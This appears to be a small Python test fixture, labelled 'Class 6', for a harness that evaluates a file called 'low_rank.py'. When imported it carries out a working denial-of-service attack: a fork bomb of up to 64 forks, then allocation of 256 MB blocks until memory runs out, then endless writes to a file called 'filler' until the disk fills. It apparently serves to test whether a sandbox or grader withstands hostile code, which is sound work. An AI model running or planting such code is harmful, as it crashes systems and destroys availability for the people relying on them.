"""Class 6: a fork bomb, then memory and the disk filled, at import."""
TARGET, MUST_MENTION = "low_rank.py", ""
import os as _os  # noqa: E402

for _ in range(64):
    try:
        _os.fork()
    except OSError:
        break
_hog = []
try:
    while True:
        _hog.append(bytearray(256 * 2**20))
except MemoryError:
    _hog.clear()
try:
    with open("filler", "wb") as _f:
        while True:
            _f.write(b"\0" * 2**20)
except OSError:
    pass
